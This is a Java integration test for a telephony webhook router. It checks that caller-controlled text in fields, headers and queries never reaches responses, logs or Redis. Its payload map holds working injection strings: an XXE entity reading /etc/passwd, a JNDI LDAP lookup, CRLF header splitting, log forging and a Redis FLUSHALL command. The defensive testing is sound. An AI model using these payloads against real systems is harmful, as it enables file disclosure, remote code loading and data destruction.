package io.smartrouter.webhook.hostile;

import static io.smartrouter.webhook.hostile.Harmless.MARK;
import static io.smartrouter.webhook.hostile.HostileRouter.ENDPOINTS;
import static io.smartrouter.webhook.hostile.HostileRouter.PUBLIC;
import static io.smartrouter.webhook.hostile.HostileRouter.plus;
import static io.smartrouter.webhook.hostile.HostileRouter.post;
import static io.smartrouter.webhook.hostile.HostileRouter.with;
import static io.smartrouter.webhook.plivo.PlivoSigner.pairs;
import static org.assertj.core.api.Assertions.assertThat;

import io.smartrouter.webhook.WebhookClient.Answer;
import io.smartrouter.webhook.simulator.Sender;
import io.smartrouter.webhook.simulator.Sender.Request;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.parallel.Isolated;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

/**
 * Text that a caller chose, in every place of a provider's request. It arrives with the provider's genuine proof, so
 * proof does not make it harmless: it must not reach a document, a header, a log line or Redis.
 */
@Isolated("reads every line that this process writes")
@ExtendWith(OutputCaptureExtension.class)
class HostileInputIT {
    private static final List<String> OUR_QUERY = List.of("merchant_id", "reseller_id", "lease", "call_sid");
    private static final int MEGABYTE = 1_048_576;

    /** What each tries to end, begin or forge. */
    private static final Map<String, String> HOSTILE = new TreeMap<>(Map.of(
            "xml", "</Stream></Response>]]><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;" + MARK,
            "json", "\"}],\"url\":\"wss://" + MARK + "/x\",\"endpoint\":[{\"uri\":\"ws://" + MARK,
            "url", "wss://" + MARK + ".example/../../agent/voice-agent-0/x/y?a=b#c",
            "header", "x\r\nX-" + MARK + ": y\r\nLocation: https://" + MARK + "\r\n\r\n<html>",
            "log",
                    "x\n2026-01-01T00:00:00.000Z INFO  [ ] " + MARK
                            + " - call hung up\u001b[2J\0\u0085\u2028\u202e\ud83d\ude00",
            "lookup", "${jndi:ldap://" + MARK + "/x}#{7*7}%0d%0a%00{}",
            "redis", "*1\r\n$8\r\nFLUSHALL\r\n" + MARK + ":{x}|1|2|-1 nan"));

    private static HostileRouter router;

    @BeforeAll
    static void start() {
        router = HostileRouter.start();
    }

    @AfterAll
    static void stop() {
        router.close();
    }

    @ParameterizedTest
    @EnumSource
    void hostileTextInEachFieldReachesNothing(Sender sender, CapturedOutput output) {
        int requests = 0;
        for (String endpoint : ENDPOINTS) {
            for (String method : sender.gets() ? List.of("POST", "GET") : List.of("POST")) {
                for (Map.Entry<String, String> hostile : HOSTILE.entrySet()) {
                    String sid = "h-" + endpoint + "-" + method + "-" + hostile.getKey();
                    for (Case each : cases(sender, sid, hostile.getValue())) {
                        Request request =
                                sender.request(PUBLIC, method, sender.path(endpoint), each.query, each.fields);
                        Harmless.answer(sender + " " + sid + " " + each.what, router.send(request));
                        requests++;
                    }
                    router.hangUp(sender, sid);
                }
            }
        }
        int lines = Harmless.log(output.getOut());
        assertThat(lines).isGreaterThan(requests / 4); // the router does log these
        assertThat(router.text()).contains("h-allocate-POST-xml").doesNotContainIgnoringCase(MARK);
        assertThat(router.pool().liveCalls()).isZero();
        System.out.println("hostile fields: provider=" + sender + " requests=" + requests + " log lines=" + lines);
    }

    /** One hostile text in one place of an otherwise good request. */
    private record Case(String what, List<String[]> query, List<String[]> fields) {}

    private static List<Case> cases(Sender sender, String sid, String hostile) {
        List<Case> cases = new ArrayList<>();
        for (String field : sender.fields()) {
            cases.add(new Case(field, pairs(), with(sender.call(sid), field, hostile)));
            cases.add(new Case(field + " at the end", pairs(), with(sender.hangup(sid), field, hostile)));
        }
        cases.add(new Case("the call", pairs(), with(sender.call(sid), sender.callField(), hostile)));
        cases.add(new Case("a name", pairs(), with(sender.call(sid), hostile, "x")));
        for (String ours : OUR_QUERY) {
            cases.add(new Case("our " + ours, pairs(ours, hostile), sender.call(sid)));
        }
        cases.add(new Case("a name of the query", pairs(hostile, hostile), sender.call(sid)));
        return cases;
    }

    @ParameterizedTest
    @EnumSource
    void hostileHeadersReachNothing(Sender sender, CapturedOutput output) {
        Answer first = router.send(post(sender, "allocate", sender.call("headers-1")));
        Harmless.answer("first", first);
        List<String> names = List.of(
                "User-Agent",
                "Referer",
                "Cookie",
                "Accept",
                "Accept-Language",
                "Accept-Encoding",
                "Origin",
                "Range",
                "If-None-Match",
                "X-Request-Id",
                "traceparent",
                "X-HTTP-Method-Override",
                "X-Original-URI",
                "X-Forwarded-For",
                "I-Twilio-Idempotency-Token",
                "Exotel-Version",
                MARK);
        List<String> values = List.of(
                "</Stream>" + MARK + "\"}&<!DOCTYPE",
                "${jndi:ldap://" + MARK + "/x}",
                "wss://" + MARK + "/agent?x#y",
                MARK + "\u00e9\ud83d\ude00",
                MARK + "/*;q=-1, DELETE",
                MARK.repeat(500));
        for (String name : names) {
            for (String value : values) {
                Answer answer = router.send(
                        post(sender, "allocate", sender.call("headers-1")).with(Map.of(name, value)));
                assertThat(answer.status()).as(name + ": " + value).isEqualTo(200);
                assertThat(answer.body()).as(name + ": " + value).isEqualTo(first.body());
                Harmless.noMark(name, answer);
            }
            for (String broken : List.of("a\u0000" + MARK, "a\u001b[2J" + MARK)) {
                Answer answer = router.send(
                        post(sender, "allocate", sender.call("headers-1")).with(Map.of(name, broken)));
                assertThat(answer.status()).as(name).isEqualTo(400);
                Harmless.noMark(name, answer);
            }
        }
        router.hangUp(sender, "headers-1");
        Harmless.log(output.getOut());
        assertThat(router.text()).doesNotContainIgnoringCase(MARK);
    }

    @ParameterizedTest
    @EnumSource
    void aMegabyteIsRefusedWhereverItStands(Sender sender, CapturedOutput output) {
        Harmless.answer("held", router.send(post(sender, "allocate", sender.call("big-1"))));
        Map<String, String> before = router.keySpace();
        String big = MARK + "9".repeat(MEGABYTE);
        for (String endpoint : ENDPOINTS) {
            for (String field : List.of(sender.fields().getFirst(), sender.callField(), big)) {
                Request genuine = post(sender, endpoint, with(sender.hangup("big-1"), field, big));
                assertThat(genuine.body()).hasSizeGreaterThan(MEGABYTE);
                tooBig(endpoint, router.send(genuine), 413);
                tooBig(endpoint, router.chunked(genuine), 413);
            }
            Request good = post(sender, endpoint, sender.hangup("big-1"));
            tooBig(endpoint, router.send(good.with(Map.of("X-Big", big))), 400);
            tooBig(endpoint, router.send(new Request("GET", good.target() + "?x=" + big, good.headers(), "")), 400);
        }
        assertThat(router.keySpace()).isEqualTo(before);
        Harmless.log(output.getOut());
        router.hangUp(sender, "big-1");
    }

    private static void tooBig(String what, Answer answer, int status) {
        assertThat(answer.status()).as(what).isEqualTo(status);
        Harmless.noMark(what, answer);
    }

    /** A name that stands twice is one if its values are, and otherwise a guess that nobody makes. */
    @ParameterizedTest
    @EnumSource
    void aRepeatedParameterIsNeverGuessed(Sender sender) {
        Answer first = router.send(post(sender, "allocate", sender.call("twice-1")));
        Harmless.answer("first", first);
        Map<String, String> before = router.keySpace();
        List<String[]> same = plus(sender.call("twice-1"), sender.callField(), "twice-1");
        List<String[]> other = plus(sender.call("twice-1"), sender.callField(), "twice-2");
        if (sender == Sender.VONAGE) { // a field of JSON stands once; the query is not proven, and not read
            for (String endpoint : ENDPOINTS) {
                for (List<String[]> fields :
                        List.of(same, other, plus(sender.hangup("twice-1"), "status", "ringing"))) {
                    Harmless.refused(endpoint, router.send(post(sender, endpoint, fields)), 400, "invalid_request");
                }
            }
            Request query = sender.request(
                    PUBLIC, "POST", "/vonage/allocate", pairs("uuid", "twice-2", "uuid", "x"), sender.call("twice-1"));
            assertThat(router.send(query).body()).isEqualTo(first.body());
        } else {
            for (String method : List.of("POST", "GET")) {
                String allocate = sender.path("allocate");
                assertThat(router.send(sender.request(PUBLIC, method, allocate, pairs(), same))
                                .body())
                        .isEqualTo(first.body());
                assertThat(router.send(sender.request(
                                        PUBLIC,
                                        method,
                                        allocate,
                                        pairs(sender.callField(), "twice-1"),
                                        sender.call("twice-1")))
                                .body())
                        .isEqualTo(first.body());
                for (String endpoint : ENDPOINTS) {
                    String path = sender.path(endpoint);
                    String status = sender.whatHappened(endpoint);
                    for (Request ambiguous : List.of(
                            sender.request(PUBLIC, method, path, pairs(), other),
                            sender.request(
                                    PUBLIC, method, path, pairs(sender.callField(), "twice-2"), sender.call("twice-1")),
                            sender.request(
                                    PUBLIC,
                                    method,
                                    path,
                                    pairs(status, "x"),
                                    pairs(sender.callField(), "twice-1", status, "completed")))) {
                        Harmless.refused(endpoint + ambiguous, router.send(ambiguous), 400, "invalid_request");
                    }
                }
                for (List<String[]> tenants : List.of(
                        pairs("merchant_id", "a", "merchant_id", "b"), pairs("merchant_id", "a", "reseller_id", "b"))) {
                    Request ambiguous = sender.request(PUBLIC, method, allocate, tenants, sender.call("twice-1"));
                    Harmless.refused("tenants", router.send(ambiguous), 400, "invalid_request");
                }
            }
        }
        assertThat(router.keySpace()).isEqualTo(before);
        router.hangUp(sender, "twice-1");
    }
}
